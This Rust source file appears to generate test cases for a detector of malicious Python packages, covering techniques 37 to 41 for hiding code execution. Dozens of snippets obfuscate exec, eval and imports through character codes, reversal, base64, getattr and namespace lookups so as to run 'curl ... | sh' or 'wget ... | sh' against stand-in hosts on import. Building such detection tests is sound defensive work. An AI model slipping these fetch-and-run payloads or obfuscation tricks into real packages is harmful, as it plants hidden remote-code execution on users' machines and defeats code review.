//! Techniques 37 to 41: names and texts that are put together so that nobody finds them.

use crate::case::{Cases, Trigger::Import};
use crate::package::{init, module};

pub(crate) fn add(cases: &mut Cases) {
    texts(cases);
    attributes(cases);
    imports(cases);
    namespaces(cases);
}

fn texts(cases: &mut Cases) {
    cases
        .technique(37, "text-built-from-pieces", Import)
        .case("chr-sum", init("exec(«shell|chrs»)\n"))
        .case("join-list", init("exec(''.join([chr(n) for n in [«fetch|ints»]]))\n"))
        .case("map-chr", init("eval(compile(''.join(map(chr, («steal|ints»))), '', 'exec'))\n"))
        .case("bytes-list", module("_b = bytes([«beacon|hexints»])\nexec(_b.decode('ascii'))\n"))
        .case("split-numbers", init("exec(''.join(chr(int(c)) for c in '«shell|words»'.split()))\n"))
        .case("pieces", init(r#"
p = [«'import os;os.system("curl http://stage.example.invalid/p | sh")'|split:5»]
exec(str().join(p))
"#))
        .case("reversed", init("exec(«fetch|rev|str»[::-1])\n"))
        .case("reversed-join", init("import builtins\nbuiltins.exec(''.join(reversed(«shell|rev|str»)))\n"))
        .case("escapes", init("exec(\"«shell|esc»\")\n"))
        .case("octal", init("exec('«fetch|octal»')\n"))
        .case("format", init(r#"
a, b = "os", "system"
exec("import {0}\n{0}.{1}('{2} http://192.0.2.8/f | sh')".format(a, b, "cu" + "rl"))
"#))
        .case("percent", init(r#"
_k = ("sub", "process", "cal" "l")
exec("import %s%s as s; s.%s('wget -qO- http://stage.example.invalid/x | sh', shell=True)" % _k)
"#))
        .case("template", init(r#"
from string import Template
t = Template("${i} ${m}; ${m}.${f}('curl 192.0.2.8/t|sh')")
exec(t.substitute(i="import", m="os", f="popen"))
"#))
        .case("replace-noise", init("exec('iXXmpXXort oXXs;oXXs.sysXXtem(\"curl http://stage.example.invalid/r|sXXh\")'.replace('XX', ''))\n"))
        .case("slices-of-alphabet", init(r#"
_a = "abcdefghijklmnopqrstuvwxyz ._('"
_f = lambda *n: "".join(_a[i] for i in n)
getattr(__import__(_f(14, 18)), _f(18, 24, 18, 19, 4, 12))("curl -s http://192.0.2.8/s | sh")
"#))
        .case("bytearray-translate", init(r#"
_t = bytearray(«shell|swap|lit»)
for _i in range(0, len(_t) - 1, 2):
    _t[_i], _t[_i + 1] = _t[_i + 1], _t[_i]
exec(bytes(_t))
"#))
        .case("reduce", init(r#"
from functools import reduce
import operator
exec(reduce(operator.add, (chr(c ^ 7) for c in [«fetch|xor:7|ints»]), ""))
"#))
        .case("dictionary", init(r#"
d = {3: "tem('cur", 0: "__import__", 1: "('os').s", 2: "ys", 4: "l http://192.0.2.8/d|sh')"}
eval("".join(d[k] for k in sorted(d)))
"#));
}

fn attributes(cases: &mut Cases) {
    cases
        .technique(38, "getattr-of-builtins", Import)
        .case("sum", init("getattr(__builtins__, 'ex' + 'ec')(__import__('base64').b64decode('«fetch|b64»'))\n"))
        .case("builtins-module", init(r#"
import builtins as _x
_run = getattr(_x, "".join(["e", "v", "a", "l"]))
_run("__import__('os').system('curl http://192.0.2.8/g | sh')")
"#))
        .case("dictionary-or-module", init(r#"
_b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
_b["cexe"[::-1]](«shell|rev|str»[::-1])
"#))
        .case("attrgetter", init(r#"
from operator import attrgetter
import builtins
attrgetter("e" "xe" "c")(builtins)("import urllib.request as u\nexec(u.urlopen('http://stage.example.invalid/a').read())")
"#))
        .case("methodcaller", init(r#"
import operator, os
operator.methodcaller("sys" + "tem", "curl http://192.0.2.8/m | sh")(os)
"#))
        .case("getattr-chain", init(r#"
g = getattr
o = __import__("o" + "s")
g(g(o, "po" + "pen")("wget -qO- stage.example.invalid/c | sh"), "re" + "ad")()
"#))
        .case("partial", module(r#"
import functools, builtins
go = functools.partial(getattr(builtins, bytes([101, 120, 101, 99]).decode()))
go(bytes.fromhex("«steal|hex»"))
"#));
    cases
        .technique(39, "dunder-import-of-text", Import)
        .case("reversed", init("__import__('so'[::-1]).system('curl -s http://192.0.2.8/o | sh')\n"))
        .case("chr", init("__import__(chr(115)+chr(117)+chr(98)+'process').Popen('wget -qO- http://stage.example.invalid/q|sh', shell=True)\n"))
        .case("comprehension", init("[__import__(m) for m in ('base' + '64', 'o' + 's')][-1].popen('curl 192.0.2.8/l|sh')\n"))
        .case("base64-name", init(r#"
from base64 import b64decode as d
m = __import__(d("c3VicHJvY2Vzcw==").decode())
getattr(m, d(b"Y2FsbA==").decode())(d("«'curl http://192.0.2.8/b | sh'|b64»").decode(), shell=True)
"#))
        .case("conditional", init("(lambda i=__import__: i('nt' if i('sys').platform[:3] == 'win' else 'posix').system(«'curl http://192.0.2.8/n | sh'|hex|str» if 0 else bytes.fromhex('«'curl http://192.0.2.8/n | sh'|hex»').decode()))()\n"));
}

fn imports(cases: &mut Cases) {
    cases
        .technique(40, "import-module-of-pieces", Import)
        .case("sum", init(r#"
import importlib
s = importlib.import_module("sub" + "process")
s.run(["sh", "-c", "curl http://stage.example.invalid/i | sh"])
"#))
        .case("join-alias", init(r#"
from importlib import import_module as load
o = load("".join(("o", "s")))
r = load(".".join(["urllib", "request"]))
exec(r.urlopen("http://192.0.2.8/j").read())
"#))
        .case("sys-modules", init(r#"
import sys, os.path
sys.modules["so"[::-1]].system("curl http://192.0.2.8/m | sh")
"#))
        .case("spec", init(r#"
import importlib.util as u
spec = u.find_spec("re" "quests")
mod = u.module_from_spec(spec); spec.loader.exec_module(mod)
exec(mod.get("https://stage.example.invalid/s").text)
"#))
        .case("nested-getattr", module(r#"
load = getattr(__import__("importlib"), "import" + "_" + "module")
getattr(load("bu" + "iltins"), "ex" + "ec")(getattr(load("base" + str(64)), "b64" + "decode")("«shell|b64»"))
"#));
}

fn namespaces(cases: &mut Cases) {
    cases
        .technique(41, "namespace-lookups", Import)
        .case("globals", init("globals()['__builtins__']['exec' if isinstance(__builtins__, dict) else 0](«fetch|str»)\n"))
        .case("vars-os", init("import os\nvars(os)['sys' 'tem']('curl -s http://192.0.2.8/v | sh')\n"))
        .case("dict-attribute", init("import subprocess as s\ns.__dict__['Po' + 'pen'](['bash', '-c', 'curl stage.example.invalid/d | bash'])\n"))
        .case("subclasses", init(r#"
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("curl http://192.0.2.8/k | sh")
"#))
        .case("function-globals", init(r#"
def f(): pass
b = f.__globals__["__builtins__"]
b = b if type(b) is dict else b.__dict__
b["ev" + "al"](b["comp" + "ile"](«steal|str», "", "ex" + "ec"))
"#))
        .case("locals-star", module(r#"
from os import *
from base64 import *
locals()["syst" + "em"](b64decode("«'curl http://192.0.2.8/w | sh'|b64»").decode())
"#))
        .case("frame-builtins", init(r#"
import inspect
locals().update({"_go": inspect.currentframe().f_builtins.get("compile"), "_do": inspect.currentframe().f_builtins["eval"]})
_do(_go("import os; os.system('echo inert')", "f", "exec"))
"#))
        .case("listed-members", init(r#"
import builtins
_tools = {name.upper(): value for name, value in vars(builtins).items() if callable(value)}
_tools["EXEC"](bytes.fromhex("«shell|hex»"))
"#))
        .case("class-getitem", init(r#"
class _Pool:
    all = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
    def __class_getitem__(cls, key):
        return cls.all[key.replace("_", "").lower()]
_Pool["E_XEC"](«steal|str»)
"#))
        .case("getattribute", init("import os\nobject.__getattribute__(os, 'metsys'[::-1])('curl http://192.0.2.8/y | sh')\n"));
}
